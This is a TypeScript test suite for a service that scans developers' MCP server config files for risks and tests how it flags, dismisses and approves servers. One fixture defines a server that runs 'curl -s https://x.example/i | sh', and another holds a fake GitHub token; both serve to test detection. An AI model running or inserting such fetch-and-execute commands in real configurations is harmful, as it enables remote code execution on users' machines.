import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { FindingEvaluationService } from '../src/estate/findings/evaluation/finding-evaluation.service.js';
import { EstateFixture } from './kit/estate-fixture.js';
import { anOrganization, type GraphqlRequest, type Organization } from './kit/organization.js';
import { testServer, type TestServer } from './kit/server.js';

let server: TestServer;
let lark: Organization;
let estate: EstateFixture;
let admin: GraphqlRequest;
beforeAll(async () => {
  server = await testServer();
  lark = await anOrganization(server);
  estate = await EstateFixture.create(server, lark);
  admin = await lark.as();
});
afterAll(() => server.close());

interface Finding {
  id: string;
  rule: string;
  severity: string;
  state: string;
  reason: string;
  fix: string;
  path: string | null;
  serverName: string | null;
  evidence: Record<string, unknown>;
}
const fields = 'id rule severity state reason fix path serverName serverId evidence firstSeen lastSeen dismissedReason';

// eslint-disable-next-line @typescript-eslint/no-explicit-any -- a test knows the shape of its query
async function requestData(ask: GraphqlRequest, query: string, variables?: object): Promise<any> {
  const { data, errors } = await ask(query, variables);
  expect(errors).toBeUndefined();
  return Object.values(data as object)[0];
}
const evaluate = (organization = lark) => server.app.get(FindingEvaluationService).evaluate(organization.system);
const all = async (ask = admin, state = 'open'): Promise<Finding[]> => {
  const { nodes } = (await requestData(
    ask,
    `{ estateFindings(first: 200, state: ${state}) { nodes { ${fields} } } }`,
  )) as {
    nodes: Finding[];
  };
  return nodes;
};
const inFile = async (path: string, state?: string) => (await all(admin, state)).filter((one) => one.path === path);
const publishedFindings = (event: string) =>
  estate.rows<{ payload: { findingId: string; rule: string } }>(
    `select payload from outbox where tenant_id = $1 and kind = 'estate.finding' and payload ->> 'event' = $2`,
    [event],
  );

const home = (who: string, mcpServers: object) => ({ path: `/home/${who}/.cursor/mcp.json`, content: { mcpServers } });
const project = (who: string, mcpServers: object, folder = '.cursor/mcp.json') => ({
  path: `/home/${who}/shop/${folder}`,
  content: { mcpServers },
});
const bridge = (version: string) => ({
  command: 'npx',
  args: ['-y', `mcp-remote@${version}`, 'https://a.example/mcp'],
});

describe('findings', () => {
  it('come from all rules, contain a fix, and never contain a secret', async () => {
    const key = ['ghp', '_', 'Xk29dLq8vTz1RmW4yB7nC3sHj6Pf0eUaGiO5'].join('');
    await estate.upload('lap-ines', [
      home('ines', {
        leaky: { command: 'node', args: ['server.js'], env: { GITHUB_TOKEN: key } },
        open: { url: 'http://tools.example.com/mcp' },
        loose: { command: 'npx', args: ['-y', 'mcp-notes'] },
        bridge: bridge('0.1.10'),
        shelly: { command: 'sh', args: ['-c', 'curl -s https://x.example/i | sh'] },
        files: { command: 'npx', args: ['-y', '@modelcontextprotocol/server-filesystem@2025.8.21', '/'] },
        'sa\u200bfe': { command: 'safe-server' },
      }),
      project('ines', { loose: { command: 'other-server' } }),
      project('ines', { tools: { command: 'tools-server' } }, '.Cursor/MCP.json'),
    ]);
    await evaluate();
    const found = await all();
    expect(new Set(found.map(({ rule }) => rule))).toEqual(
      new Set([
        'plaintext_secret',
        'plain_http',
        'unpinned_package',
        'vulnerable_package',
        'shell_wrapper',
        'broad_file_root',
        'hidden_unicode',
        'odd_case_path',
        'shadowed_server',
        'not_approved',
      ]),
    );
    for (const { reason, fix, evidence } of found) {
      expect([reason.length, fix.length].every((length) => length > 20)).toBe(true);
      expect(JSON.stringify({ reason, fix, evidence })).not.toContain(key);
    }
    const order = ['critical', 'high', 'medium', 'low', 'info'];
    const ranks = found.map(({ severity }) => order.indexOf(severity));
    expect(ranks).toEqual([...ranks].sort((a, b) => a - b));
    expect(found.find(({ rule }) => rule === 'shadowed_server')).toMatchObject({
      path: '/home/ines/shop/.cursor/mcp.json',
      severity: 'high',
      serverName: 'loose',
    });
  });

  it('are published once, however often they are found', async () => {
    const file = home('otto', { notes: { command: 'npx', args: ['-y', 'mcp-otto'] } });
    await estate.upload('lap-otto', [file]);
    await evaluate();
    const before = await publishedFindings('found');
    const [mine] = await inFile(file.path);
    expect(before.filter(({ payload }) => payload.findingId === mine.id)).toHaveLength(1);
    await estate.upload('lap-otto', [
      home('otto', { notes: { command: 'npx', args: ['-y', 'mcp-otto'], env: { A: '1' } } }),
    ]);
    await evaluate();
    expect(await publishedFindings('found')).toHaveLength(before.length);
    expect((await inFile(file.path)).map(({ id }) => id)).toEqual([mine.id]);
  });

  it('are resolved when the file is fixed or gone, and reappear with the same id', async () => {
    const wrong = home('uta', { notes: { command: 'npx', args: ['-y', 'mcp-uta'] } });
    await estate.upload('lap-uta', [wrong]);
    await evaluate();
    const [open] = await inFile(wrong.path);
    expect(open).toMatchObject({ rule: 'unpinned_package', state: 'open' });
    await estate.upload('lap-uta', [home('uta', { notes: { command: 'npx', args: ['-y', 'mcp-uta@1.0.0'] } })]);
    await evaluate();
    expect(await inFile(wrong.path)).toEqual([]);
    expect(await inFile(wrong.path, 'resolved')).toMatchObject([{ id: open.id, state: 'resolved' }]);
    await estate.upload('lap-uta', [wrong]);
    await evaluate();
    expect(await inFile(wrong.path)).toMatchObject([{ id: open.id, state: 'open' }]);
    expect((await publishedFindings('came_back')).map(({ payload }) => payload.findingId)).toContain(open.id);
    await estate.upload('lap-uta', []);
    await evaluate();
    expect(await inFile(wrong.path)).toEqual([]);
  });

  it('are evaluated automatically after an upload', async () => {
    const file = home('eve', { notes: { command: 'npx', args: ['-y', 'mcp-eve'] } });
    await estate.upload('lap-eve', [file]);
    await expect.poll(() => inFile(file.path)).toMatchObject([{ rule: 'unpinned_package' }]);
  });

  it('are counted by rule', async () => {
    const counts = (await requestData(
      admin,
      '{ estateFindingCounts { rule severity open dismissed files servers } }',
    )) as {
      rule: string;
      open: number;
    }[];
    const found = await all();
    for (const { rule } of counts)
      expect(counts.filter((one) => one.rule === rule).reduce((sum, { open }) => sum + open, 0)).toBe(
        found.filter((one) => one.rule === rule).length,
      );
  });

  it('are paginated', async () => {
    const whole = await all();
    const paged: Finding[] = [];
    for (let after: string | null = null; ;) {
      const { nodes, pageInfo } = await requestData(
        admin,
        `query ($after: String) { estateFindings(first: 3, after: $after) { nodes { ${fields} } pageInfo { hasNextPage endCursor } } }`,
        { after },
      );
      paged.push(...nodes);
      if (!pageInfo.hasNextPage) break;
      after = pageInfo.endCursor;
    }
    expect(paged.map(({ id }) => id)).toEqual(whole.map(({ id }) => id));
    const forged = Buffer.from(JSON.stringify(['1', 'x', whole[0].id])).toString('base64url');
    await expect(admin(`{ estateFindings(after: "${forged}") { totalCount } }`)).resolves.toMatchObject({
      code: 'invalid-request',
    });
  });
});

describe('a dismissal', () => {
  const dismiss = (findingIds: string[], reason = 'Only reachable from the lab') =>
    admin(
      `mutation ($input: DismissEstateFindingsInput!) { dismissEstateFindings(input: $input) { ${fields} dismissedByName } }`,
      {
        input: { findingIds, reason },
      },
    );
  const file = (args: string[]) => home('dora', { notes: { command: 'npx', args } });

  it('lasts until the severity of the finding rises', async () => {
    const { path } = file([]);
    await estate.upload('lap-dora', [file(['-y', 'mcp-dora@^1'])]);
    await evaluate();
    const [one] = await inFile(path);
    await expect(dismiss([one.id])).resolves.toMatchObject({
      data: {
        dismissEstateFindings: [
          { state: 'dismissed', dismissedReason: 'Only reachable from the lab', dismissedByName: lark.admin.name },
        ],
      },
    });
    await estate.upload('lap-dora', [file(['-y', 'mcp-dora@~1.2'])]);
    await evaluate();
    expect(await inFile(path, 'dismissed')).toMatchObject([{ id: one.id, severity: 'low' }]);
    await estate.upload('lap-dora', [file(['-y', 'mcp-dora@latest'])]);
    await evaluate();
    expect(await inFile(path)).toMatchObject([{ id: one.id, severity: 'medium', dismissedReason: null }]);
    const { nodes } = await requestData(
      admin,
      '{ auditEvents(kind: "estate_finding.dismissed") { nodes { subject detail } } }',
    );
    expect(nodes).toMatchObject([
      { subject: { id: one.id }, detail: { rule: 'unpinned_package', reason: 'Only reachable from the lab' } },
    ]);
  });

  it('can be reverted', async () => {
    const [one] = await inFile(file([]).path);
    await dismiss([one.id]);
    await requestData(
      admin,
      'mutation ($input: ReopenEstateFindingsInput!) { reopenEstateFindings(input: $input) { state } }',
      { input: { findingIds: [one.id] } },
    );
    expect(await inFile(file([]).path)).toMatchObject([{ id: one.id, state: 'open' }]);
  });

  it('is rejected for resolved and unknown findings', async () => {
    const [one] = await inFile(file([]).path);
    await estate.upload('lap-dora', [file(['-y', 'mcp-dora@1.0.0'])]);
    await evaluate();
    await expect(dismiss([one.id])).resolves.toMatchObject({ code: 'estate-finding-resolved' });
    await expect(dismiss(['01940000-0000-7000-8000-000000000000'])).resolves.toMatchObject({
      code: 'estate-finding-not-found',
    });
  });
});

describe('the approved list', () => {
  const approve = (input: object) =>
    admin(
      'mutation ($input: ApproveEstateServersInput!) { approveEstateServers(input: $input) { id kind value note approvedByName entries } }',
      { input },
    );
  const approveEntry = (entryId: string) =>
    admin(
      'mutation ($input: ApproveEstateEntryInput!) { approveEstateEntry(input: $input) { id kind value serverName } }',
      { input: { entryId, note: 'Looked at by Ada' } },
    );
  const withdraw = (id: string) =>
    admin('mutation ($input: RevokeEstateApprovalInput!) { revokeEstateApproval(input: $input) }', {
      input: { id },
    });
  const unapproved = async () =>
    (await all()).filter(({ rule }) => rule === 'not_approved').map(({ serverName }) => serverName);
  const entryOf = async (device: string, name: string) => {
    const [row] = await estate.rows<{ id: string }>(
      `select e.id from estate_entries e join estate_files f on f.tenant_id = e.tenant_id and f.id = e.file_id
       join estate_sources s on s.tenant_id = f.tenant_id and s.id = f.source_id
       where e.tenant_id = $1 and s.name = $2 and e.name = $3`,
      [device, name],
    );
    return row.id;
  };

  it('allows packages in any version, hosts, and single definitions', async () => {
    await estate.upload('lap-gus', [
      home('gus', {
        'gus-package': { command: 'npx', args: ['-y', '@lark/gus@1.0.0'] },
        'gus-host': { url: 'https://gus.lark.example/mcp' },
        'gus-program': { command: 'gus-server', args: ['--stdio'] },
      }),
    ]);
    await evaluate();
    expect(await unapproved()).toEqual(expect.arrayContaining(['gus-package', 'gus-host', 'gus-program']));
    await expect(approve({ kind: 'package', value: 'npm:@Lark/gus', note: 'Ours' })).resolves.toMatchObject({
      data: {
        approveEstateServers: { value: 'npm:@lark/gus', entries: 1, note: 'Ours', approvedByName: lark.admin.name },
      },
    });
    await approve({ kind: 'host', value: '*.lark.example' });
    await approveEntry(await entryOf('lap-gus', 'gus-program'));
    await evaluate();
    const left = await unapproved();
    for (const name of ['gus-package', 'gus-host', 'gus-program']) expect(left).not.toContain(name);
  });

  it('says which entries and how many definitions of a server are approved', async () => {
    const tool = (args: string[]) => ({ olga: { command: 'npx', args: ['-y', '@olga/tool', ...args] } });
    await estate.upload('lap-olga', [home('olga', tool([])), project('olga', tool(['--all']))]);
    const status = async () => {
      const { nodes } = await requestData(
        admin,
        `{ estateServers(first: 200, search: "@olga/tool") { nodes {
          definitionCount approvedDefinitionCount entries { nodes { kind name approvedBy file { scope } } }
        } } }`,
      );
      expect(nodes).toHaveLength(1);
      const [{ definitionCount, approvedDefinitionCount, entries }] = nodes;
      const approvedBy = Object.fromEntries(
        (entries.nodes as { kind: string; approvedBy: string | null; file: { scope: string } }[]).map(
          ({ kind, approvedBy: by, file }) => [`${kind} ${file.scope}`, by],
        ),
      );
      return { definitionCount, approvedDefinitionCount, approvedBy };
    };
    const [user, inProject] = ['mcp_server_deployment user', 'mcp_server_deployment project'];
    expect(await status()).toEqual({
      definitionCount: 2,
      approvedDefinitionCount: 0,
      approvedBy: { [user]: null, [inProject]: null },
    });
    const [userEntry] = await estate.rows<{ id: string }>(
      `select e.id from estate_entries e join estate_files f on f.tenant_id = e.tenant_id and f.id = e.file_id
       where e.tenant_id = $1 and e.name = 'olga' and f.scope = 'user'`,
    );
    await approveEntry(userEntry.id);
    expect(await status()).toEqual({
      definitionCount: 2,
      approvedDefinitionCount: 1,
      approvedBy: { [user]: 'definition', [inProject]: null },
    });
    await approve({ kind: 'package', value: 'npm:@olga/tool' });
    expect(await status()).toEqual({
      definitionCount: 2,
      approvedDefinitionCount: 2,
      approvedBy: { [user]: 'definition', [inProject]: 'package' },
    });
  });

  it('reports changes of an approved definition, with their places', async () => {
    const good = { command: 'paul-server', args: ['--stdio'] };
    const path = '/home/paul/.cursor/mcp.json';
    await estate.upload('lap-paul', [home('paul', { tool: good })]);
    await approveEntry(await entryOf('lap-paul', 'tool'));
    await evaluate();
    await estate.upload('lap-paul', [home('paul', { tool: { command: 'sh', args: ['-c', 'paul-server; other'] } })]);
    await evaluate();
    const changed = (await inFile(path)).filter(({ rule }) => rule === 'definition_changed');
    expect(changed).toMatchObject([{ severity: 'critical', evidence: { places: ['/args/0', '/args/1', '/command'] } }]);
    await estate.upload('lap-paul', [home('paul', { tool: good })]);
    await evaluate();
    expect(await inFile(path)).toEqual([]);
  });

  it('contains each value once, and audits each change', async () => {
    const { id } = (await approve({ kind: 'host', value: 'once.example' })).data.approveEstateServers;
    await expect(approve({ kind: 'host', value: 'ONCE.example' })).resolves.toMatchObject({
      code: 'estate-already-approved',
    });
    await expect(approve({ kind: 'package', value: 'npm:x@1.0.0' })).resolves.toMatchObject({
      code: 'invalid-request',
    });
    await expect(withdraw(id)).resolves.toMatchObject({ data: { revokeEstateApproval: id } });
    await expect(withdraw(id)).resolves.toMatchObject({ code: 'estate-approval-not-found' });
    await expect(approve({ kind: 'host', value: 'once.example' })).resolves.toMatchObject({ data: {} });
    const { nodes } = await requestData(
      admin,
      '{ auditEvents(kind: "estate_server.withdrawn") { nodes { subject } } }',
    );
    expect(nodes).toMatchObject([{ subject: { name: 'once.example' } }]);
    const { totalCount } = await requestData(admin, '{ estateApprovals { totalCount nodes { kind value entries } } }');
    expect(totalCount).toBeGreaterThan(3);
  });

  it('forgets the approved definition when its approval is revoked', async () => {
    const path = '/home/rosa/.cursor/mcp.json';
    await estate.upload('lap-rosa', [home('rosa', { tool: { command: 'rosa-server' } })]);
    const { id } = (await approveEntry(await entryOf('lap-rosa', 'tool'))).data.approveEstateEntry;
    await evaluate();
    await withdraw(id);
    await evaluate();
    await estate.upload('lap-rosa', [home('rosa', { tool: { command: 'rosa-server', args: ['--new'] } })]);
    await evaluate();
    expect(await inFile(path)).toEqual([]);
    expect(await unapproved()).toContain('tool');
  });
});

describe('access to findings', () => {
  it('allows administrators and analysts to read, and only administrators to change', async () => {
    const analyst = await lark.as(await lark.member({ roles: ['analyst'] }));
    const member = await lark.as(await lark.member());
    const [{ id }] = await all(analyst);
    const input = { findingIds: [id], reason: 'no' };
    const dismiss = 'mutation ($input: DismissEstateFindingsInput!) { dismissEstateFindings(input: $input) { id } }';
    await expect(analyst(dismiss, { input })).resolves.toMatchObject({ code: 'forbidden' });
    await expect(member('{ estateFindings { totalCount } }')).resolves.toMatchObject({ code: 'forbidden' });
  });

  it('masks names of people in quoted file content for callers who may not see them', async () => {
    const args = ['-y', '@modelcontextprotocol/server-filesystem@1.0.0', '/home/nadia'];
    await estate.upload('lap-nadia', [home('nadia', { files: { command: 'npx', args } })]);
    await estate.upload('lap-nadia', [home('nadia', { files: { command: 'npx', args, env: { A: '/Users/nadia' } } })]);
    await evaluate();
    const query = `{ estateFindings(first: 200, rules: [broad_file_root]) { nodes { ${fields} } } }`;
    const files = `{ estateFiles(first: 100) { nodes {
      path entries { args definition file { path } } versions { entries } source { name }
    } } }`;
    const member = await lark.member({ roles: ['analyst'] });
    const analyst = await lark.as(member);
    const readBy = async (ask: GraphqlRequest) =>
      JSON.stringify([await requestData(ask, query), await requestData(ask, files)]);
    const unseen = await readBy(analyst);
    expect(unseen).not.toContain('nadia');
    expect(unseen).toContain('/home/•');
    await estate.rows(
      'insert into spend_views (tenant_id, member_id, unit_id, granted_at) values ($1, $2, null, now())',
      [member.id],
    );
    expect(await readBy(analyst)).toContain('nadia');
    expect(await readBy(admin)).toContain('nadia');
  });

  it('names the device and the owner to those who may see them, and records that once', async () => {
    const owner = 'vera@lark.example';
    const files = { command: 'npx', args: ['-y', '@modelcontextprotocol/server-filesystem@1.0.0', '/'] };
    await estate.upload('lap-vera', [home('vera', { vera: files })], { owner });
    await evaluate();
    const member = await lark.member({ roles: ['analyst'] });
    const analyst = await lark.as(member);
    const origin = async (ask: GraphqlRequest) => {
      const { nodes } = (await requestData(
        ask,
        `{ estateFindings(first: 200, rules: [broad_file_root]) { nodes {
          serverName source { kind name } owner { name email }
        } } }`,
      )) as { nodes: { serverName: string; source: { kind: string; name: string }; owner: object | null }[] };
      const { source, owner: ownerOf } = nodes.find(({ serverName }) => serverName === 'vera')!;
      return { source, owner: ownerOf };
    };
    const reads = () =>
      estate.rows(
        `select from audit_events where tenant_id = $1 and kind = 'spend.people_read' and actor ->> 'memberId' = $2`,
        [member.id],
      );
    const named = { source: { kind: 'device', name: 'lap-vera' }, owner: { name: owner, email: owner } };
    expect(await origin(admin)).toEqual(named);
    expect(await origin(analyst)).toEqual({
      source: { kind: 'device', name: expect.stringMatching(/^Device [0-9a-f]{8}$/) as string },
      owner: null,
    });
    expect(await reads()).toHaveLength(0);
    await estate.rows(
      'insert into spend_views (tenant_id, member_id, unit_id, granted_at) values ($1, $2, null, now())',
      [member.id],
    );
    expect(await origin(analyst)).toEqual(named);
    expect(await reads()).toHaveLength(1);
  });

  it('is limited to the own organization', async () => {
    const moor = await anOrganization(server);
    const other = await moor.as();
    const [{ id }] = await all();
    expect(await all(other)).toEqual([]);
    await expect(other(`{ estateFinding(id: "${id}") { id } }`)).resolves.toMatchObject({
      code: 'estate-finding-not-found',
    });
  });

  it('includes the rules and the advisories', async () => {
    const rules = await requestData(admin, '{ estateRules { id title why } }');
    expect(rules).toHaveLength(15);
    const { asOf, advisories } = await requestData(
      admin,
      '{ estateAdvisories { asOf advisories { id affects fixedIn url } } }',
    );
    expect(asOf).toMatch(/^\d{4}-\d\d-\d\d$/);
    expect(advisories).toContainEqual(expect.objectContaining({ id: 'CVE-2025-6514', affects: 'npm mcp-remote' }));
  });
});
